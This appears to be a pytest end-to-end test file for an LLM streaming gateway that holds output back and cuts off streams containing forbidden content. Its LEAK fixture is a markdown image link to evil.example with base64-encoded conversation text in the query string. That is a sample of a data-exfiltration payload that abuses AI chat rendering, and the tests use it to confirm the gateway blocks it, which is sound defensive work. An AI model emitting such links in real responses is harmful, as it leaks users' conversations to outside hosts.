"""Streams, as the real SDKs get them: text that comes while the model still speaks, an offence
that ends them, a client that leaves. The model waits for the client, so nothing hangs on time."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import AsyncIterator, Iterator

import pytest
from fastapi.responses import StreamingResponse
from openai import AsyncOpenAI, ContentFilterFinishReasonError, OpenAI
from pydantic import BaseModel

from service.settings import DEFAULT_POLICY
from tests.dialects.chat import Chat
from tests.dialects.dialect import Dialect, Voice
from tests.dialects.table import that_can
from tests.e2e.gate import Gate, running, until
from tests.e2e.messages import asked
from tests.e2e.sdks import CUT, LISTEN, UNTOLD, Heard
from tests.e2e.upstream import Upstream, streamed

pytestmark = pytest.mark.timeout(240)

CHAT = Chat()
WINDOW = 200
WORDS = "The river runs past the old mill and the children feed the ducks on its bank. "
LEAK = "Here: ![logo](https://evil.example/p.png?q=SGVyZSBpcyBhbGwgdGhhdCB3YXMgc2FpZA) is it. "
PATIENT_S = 60.0


def spoken(text: str) -> Voice:
    return Voice([f"{word} " for word in text.split(" ")])


class Speaker:
    """Says a text word by word, and after so many characters waits until it was heard."""

    def __init__(self, text: str, waits_after: int, dialect: Dialect = CHAT) -> None:
        self._events = dialect.speech(spoken(text)).events
        self._waits_at = next(
            number
            for number in range(len(self._events))
            if len("".join(dialect.spelled(self._events[: number + 1]))) >= waits_after
        )
        self.heard = threading.Event()
        self.ended = threading.Event()

    @property
    def answer(self) -> StreamingResponse:
        return StreamingResponse(self._speak(), media_type="text/event-stream")

    async def _speak(self) -> AsyncIterator[bytes]:
        try:
            for number, event in enumerate(self._events):
                yield event.encode()
                if number >= self._waits_at:
                    await asyncio.to_thread(self.heard.wait, PATIENT_S)
        finally:
            self.heard.set()
            self.ended.set()


@pytest.fixture(scope="module")
def patient(model_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A gate that holds a stream back for a long time, rather than by its clock."""
    folder = tmp_path_factory.mktemp("patient")
    policy = folder / "policy.yaml"
    held = f"streaming: {{mode: hold, window: {WINDOW}, wait_s: {PATIENT_S}}}\n"
    policy.write_text(DEFAULT_POLICY.read_text() + held)
    with running(folder / "gate", "--upstream", model_url, "--policy", str(policy)) as gate:
        yield gate.url


def hear(base: str, upstream: Upstream, speaker: Speaker, dialect: Dialect) -> list[Heard]:
    """What the dialect's own SDK hears; the model speaks on once something was."""
    heard: list[Heard] = []
    with upstream.answering(speaker.answer):
        for one in LISTEN[dialect.name](base, "Tell me."):
            heard.append(one)
            speaker.heard.set()
        assert speaker.ended.wait(PATIENT_S)
    return heard


def said(heard: list[Heard]) -> str:
    return "".join(one.words for one in heard)


@that_can()
def test_the_first_text_comes_after_a_window_of_the_answer(
    patient: str, upstream: Upstream, dialect: Dialect
) -> None:
    """A little more than a window is all that the model says before something of it is read."""
    speaker = Speaker(10 * WORDS, WINDOW + 10, dialect)
    heard = hear(patient, upstream, speaker, dialect)
    assert said(heard) == f"{10 * WORDS} "
    assert {one.end for one in heard} - {""} <= {"stop", "completed", "end_turn", "STOP"}
    assert len(upstream.received) == 1


@that_can()
def test_an_offence_ends_what_was_begun(patient: str, upstream: Upstream, dialect: Dialect) -> None:
    speaker = Speaker(5 * WORDS + LEAK + 5 * WORDS, WINDOW + 10, dialect)
    heard = hear(patient, upstream, speaker, dialect)
    assert said(heard).startswith(WORDS)
    assert "evil" not in said(heard)
    assert [one.end for one in heard if one.end] == [CUT[dialect.name]]
    told = said(heard) + "".join(one.refusal for one in heard)
    assert ("because it holds a link" in told) is (dialect.name not in UNTOLD)
    assert len(upstream.received) == 1


class Sum(BaseModel):
    total: str


def test_a_shape_that_is_cut_off_is_not_parsed(patient: str, upstream: Upstream) -> None:
    client = OpenAI(base_url=f"{patient}/v1", api_key="sk-test", max_retries=0)
    speaker = Speaker('{"total": "' + 5 * WORDS + LEAK + '"}', waits_after=WINDOW + 10)

    def listen() -> None:
        with client.chat.completions.stream(
            model="m", messages=asked("Tell me."), response_format=Sum
        ) as events:
            for _ in events:
                speaker.heard.set()

    with upstream.answering(speaker.answer), pytest.raises(ContentFilterFinishReasonError):
        listen()
    assert speaker.ended.wait(PATIENT_S)


@pytest.mark.parametrize("pieces", [1, 5, 40, 4000])
def test_a_link_split_over_chunks_is_found_in_any_choice(
    client: OpenAI, upstream: Upstream, pieces: int
) -> None:
    with upstream.answering(streamed(WORDS, 4 * WORDS + LEAK, pieces=pieces)):
        asking = client.chat.completions.create(
            model="m", messages=asked("Tell me."), stream=True, n=2
        )
        chunks = list(asking)
    said = [choice.delta.content or "" for chunk in chunks for choice in chunk.choices]
    assert "evil" not in "".join(said)
    ends = {c.index: c.finish_reason for one in chunks for c in one.choices if c.finish_reason}
    assert ends[1] == "content_filter"


def test_a_client_that_leaves_lets_the_model_go(
    gate: Gate, client: OpenAI, upstream: Upstream
) -> None:
    speaker = Speaker(8 * WORDS, waits_after=5 * len(WORDS))
    before = gate.log.count('"event": "request"')
    with upstream.answering(speaker.answer):
        got = client.chat.completions.create(model="m", messages=asked("Tell me."), stream=True)
        next(iter(got))
        got.close()
        assert speaker.ended.wait(PATIENT_S)
    until(lambda: gate.log.count('"event": "request"') == before + 1, 10, "nothing was remembered")


def test_a_client_that_leaves_before_the_first_word_lets_the_model_go(
    client: OpenAI, upstream: Upstream
) -> None:
    speaker = Speaker("A word.", waits_after=1)
    with (
        upstream.answering(speaker.answer),
        pytest.raises(Exception, match="timed out"),
        client.with_options(timeout=1.5).chat.completions.stream(
            model="m", messages=asked("Tell me.")
        ) as events,
    ):
        list(events)
    assert speaker.ended.wait(PATIENT_S)


def test_many_streams_at_once_each_say_their_own(gate: Gate, upstream: Upstream) -> None:
    async def one(client: AsyncOpenAI) -> str:
        got = await client.chat.completions.create(
            model="m", messages=asked("Tell me."), stream=True
        )
        return "".join([c.delta.content or "" async for each in got for c in each.choices])

    async def all_of_them() -> list[str]:
        async with AsyncOpenAI(base_url=f"{gate.url}/v1", api_key="k", max_retries=0) as client:
            return await asyncio.gather(*(one(client) for _ in range(8)))

    with upstream.answering(streamed(6 * WORDS)):
        assert asyncio.run(all_of_them()) == [6 * WORDS] * 8
